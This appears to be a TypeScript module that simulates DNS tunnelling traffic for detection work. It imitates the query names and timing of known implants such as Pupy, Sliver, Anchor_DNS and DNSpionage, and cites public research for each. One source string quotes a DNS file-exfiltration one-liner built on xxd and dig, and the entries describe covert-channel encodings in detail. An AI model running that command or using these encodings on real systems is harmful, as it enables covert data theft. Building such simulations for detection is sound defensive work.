import { base32, base64url, bytesField, cut, hex, number, RFC32, SLIVER_32, symbolsOf, varintField } from '../encode'
import { around, cipher, MINUTE, plainText, SECOND, type TunnelKind, word } from '../kind'

const BASE36 = 'abcdefghijklmnopqrstuvwxyz0123456789'
const TYPES = ['A', 'AAAA', 'CNAME', 'MX', 'TXT', 'SRV'] as const

/** Pupy's base32: the digits 2 to 7 written 1 to 6, whole blocks of eight filled up with 9. */
function pupyLabel(bytes: Uint8Array): string {
  const text = symbolsOf(
    bytes,
    RFC32.replace(/\d/g, (digit) => String(Number(digit) - 1)),
  )
  return text.padEnd(Math.ceil(text.length / 8) * 8, '9')
}

/** Implants and scripts whose names differ in shape from the others’. */
export const implants: readonly TunnelKind[] = [
  {
    ...{ id: 'Pupy', tool: 'Pupy', source: 'n1nj4sec/pupy pupy/network/lib/picocmd/client.py; Infoblox, Decoy Dog' },
    what: 'Session, counted nonce with the node’s number, encrypted command, each label in whole blocks of base32, A, every half minute.',
    start: ({ random }) => {
      const session = cipher(random, 4)
      const node = cipher(random, 13)
      let nonce = random.below(2 ** 31)
      return () => {
        const payload = cipher(random, 8 + random.below(20))
        const head = Buffer.concat([number(nonce, 4), node])
        nonce += node.length + payload.length
        return { after: around(random, 30 * SECOND), name: [session, head, payload].map(pupyLabel).join('.'), qtype: 'A' }
      }
    },
  },
  {
    ...{ id: 'Chashell', tool: null, source: 'sysdream/chashell README: protobuf, XSalsa20-Poly1305, hexadecimal labels of 63, TXT' },
    what: 'A poll every two seconds: nonce, seal and a short packet in hexadecimal, more when a command has output.',
    start:
      ({ random }) =>
      () => ({
        after: around(random, 2 * SECOND),
        name: cut(hex(cipher(random, random.chance(0.7) ? 60 : 110)), 63),
        qtype: 'TXT',
      }),
  },
  {
    ...{ id: 'Anchor_DNS', tool: null, source: 'NTT, TrickBot variant Anchor_DNS communicating over DNS, 2020: GUID and text XOR 0xB9' },
    what: 'Type, GUID of the bot and a piece of its request under a constant byte, in hexadecimal, A; answers are addresses that count.',
    start: ({ random }) => {
      const masked = (bytes: Uint8Array): string => hex(bytes.map((byte) => byte ^ 0xb9))
      const guid = cipher(random, 16)
      return (i) => ({
        after: around(random, i % 12 === 0 ? 90 * SECOND : 300),
        name: cut(masked(Buffer.concat([Buffer.from([0x30 + (i % 3)]), guid, plainText(random, 10 + random.below(20))])), 62),
        qtype: 'A',
      })
    },
  },
  {
    ...{ id: 'ALMA Communicator', tool: 'ALMA', source: 'Palo Alto Unit 42, OilRig Deploys ALMA Communicator, 2017, and its samples' },
    what: 'Random number, ID, victim, piece, ten bytes of data and “_DnsIn…” in hexadecimal, hyphened, A.',
    start: ({ random }) => {
      const id = random.text('0123456789abcdef', 10)
      const name = hex(Buffer.from(`_DnsInit${random.below(9)}`))
      return (i) => ({
        after: around(random, 400),
        name: `${1_000 + random.below(80_000)}ID${id}-${i}-${hex(plainText(random, 10))}-${name}`,
        qtype: 'A',
      })
    },
  },
  {
    ...{
      id: 'Symbiote',
      tool: null,
      source: 'Intezer and BlackBerry, Symbiote, 2022: PACKET.MACHINE.PAYLOAD.DOMAIN, RC4 in hexadecimal, A',
    },
    what: 'Piece, machine number and encrypted credentials in hexadecimal; a few names at each log-in.',
    start: ({ random }) => {
      const machine = random.text('0123456789abcdef', 8)
      return (i) => ({
        after: around(random, i % 3 === 0 ? 4 * MINUTE : 40, 0.6),
        name: `${i % 3}.${machine}.${hex(cipher(random, 16 + random.below(14)))}`,
        qtype: 'A',
      })
    },
  },
  {
    ...{ id: 'ChamelDoH', tool: null, source: 'Stairwell, ChamelGang and ChamelDoH, 2023: AES and a base64 of its own in TXT' },
    what: 'Encrypted requests in labels of a case-folded base64, TXT, in short bursts.',
    start:
      ({ random }) =>
      (i) => ({
        after: around(random, i % 6 === 0 ? 40 * SECOND : 250),
        name: cut(base64url(cipher(random, 48 + 16 * random.below(4))).toLowerCase(), 60),
        qtype: 'TXT',
      }),
  },
  {
    ...{ id: 'RogueRobin', tool: null, source: 'Palo Alto Unit 42, DarkHydrus, 2018; Domainator, arXiv 2505.22220' },
    what: 'Job number, piece and base64 with digits for its signs, hyphened; record types by turns.',
    start: ({ random }) => {
      const job = random.text('abcdefghijklmnopqrstuvwxyz', 4)
      return (i) => ({
        after: around(random, 3 * SECOND, 0.6),
        name: `${job}-${i}-${base64url(plainText(random, 18 + random.below(12))).replace(/[-_]/g, '0')}`,
        qtype: TYPES[i % TYPES.length] ?? 'A',
      })
    },
  },
  {
    ...{
      id: 'script over a file',
      tool: null,
      source: 'The one-liner of many notes: xxd -p -c 16 FILE | while read LINE; dig LINE.DOMAIN',
    },
    what: 'Hexadecimal text of a file, 16 or 20 bytes a name, A, nothing else.',
    start: ({ random }) => {
      const bytes = random.pick([16, 20])
      return () => ({ after: around(random, 60), name: hex(plainText(random, bytes)), qtype: 'A', rcode: 'NXDOMAIN' })
    },
  },
  {
    ...{ id: 'script over an archive', tool: null, source: 'The same with a compressed file and a server that answers' },
    what: 'Hexadecimal of 30 random bytes a name, A.',
    start:
      ({ random }) =>
      () => ({ after: around(random, 60), name: hex(cipher(random, 30)), qtype: 'A' }),
  },
  {
    ...{ id: 'Sliver beacon, idle', tool: 'Sliver', source: 'BishopFox/sliver dnsclient.go, dnspb/dns.proto, beacons sleep a minute' },
    what: 'A poll with eight random bytes once a minute, TXT.',
    start: ({ random }) => {
      const session = 1 + random.below(0xffffff)
      return () => ({
        after: around(random, MINUTE, 0.3),
        name: cut(
          symbolsOf(
            Buffer.concat([varintField(1, 3), varintField(2, ((random.below(255) + 1) << 24) | session), bytesField(6, cipher(random, 8))]),
            SLIVER_32,
          ),
          63,
        ),
        qtype: 'TXT',
      })
    },
  },
  {
    ...{ id: 'Slipstream', tool: null, source: 'EndPositive/slipstream README: QUIC in base32 names, TXT' },
    what: 'QUIC packets in base32, labels of 57, connection number in front, a hundred a second when busy.',
    start: ({ random }) => {
      const connection = cipher(random, 8)
      return () => ({
        after: around(random, random.chance(0.8) ? 10 : 400),
        name: cut(base32(Buffer.concat([Buffer.from([0x40 | random.below(64)]), connection, cipher(random, 20 + random.below(90))])), 57),
        qtype: 'TXT',
        responseBytes: 700,
      })
    },
  },
  {
    ...{ id: 'DNSpionage', tool: null, source: 'Cisco Talos, DNSpionage Campaign Targets Middle East, 2018: four characters and base32' },
    what: 'Four random characters of the victim’s number and base32 of a line, A, now and then.',
    start: ({ random }) => {
      const id = random.text('abcdefghijklmnopqrstuvwxyz234567', 2)
      return () => ({
        after: around(random, 25 * SECOND, 0.8),
        name: `${random.text('abcdefghijklmnopqrstuvwxyz234567', 2)}${id}${base32(plainText(random, 12 + random.below(10)))}`,
        qtype: 'A',
      })
    },
  },
  {
    ...{ id: 'Snugy', tool: null, source: 'Palo Alto Unit 42, xHunt: CASHY200 and Snugy, 2020: one custom base36 label, by ping' },
    what: 'One label of 30 to 38 characters with machine number and random filling, A, every two minutes.',
    start: ({ random }) => {
      const id = random.text(BASE36, 6)
      return () => ({ after: around(random, 2 * MINUTE, 0.4), name: `${id}${random.text(BASE36, 24 + random.below(9))}`, qtype: 'A' })
    },
  },
  {
    ...{
      id: 'text in words of an own domain',
      tool: null,
      source: 'Palo Alto Unit 42, Understanding DNS Tunneling Traffic in the Wild, 2023',
    },
    what: 'A word, a hyphen and 8 base36 characters, A, every ten seconds: a short number dressed up.',
    start:
      ({ random }) =>
      () => ({ after: around(random, 10 * SECOND, 0.5), name: `${word(random)}-${random.text(BASE36, 8)}`, qtype: 'A' }),
  },
]
